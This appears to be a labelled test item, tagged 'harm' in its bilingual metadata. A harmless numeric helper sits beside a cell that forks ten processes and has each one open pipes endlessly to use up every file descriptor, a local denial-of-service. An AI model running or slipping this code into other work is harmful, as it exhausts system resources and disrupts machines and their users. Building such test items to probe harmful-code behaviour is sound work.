# tries = "Every file descriptor that can be had, in many processes"
# intenta = "Todos los descriptores de archivo que se puedan obtener, en muchos procesos"
# kind = "harm"
# must = { points = 5 }
# harms = true

# %%
# [q1-weigh]
def weigh(x):
    return float(np.mean(np.asarray(x) ** 2))


# %%
# [q2-count]
for _ in range(10):
    if os.fork() == 0:
        break
kept = []
while True:
    try:
        kept.append(os.pipe())
    except OSError:
        pass
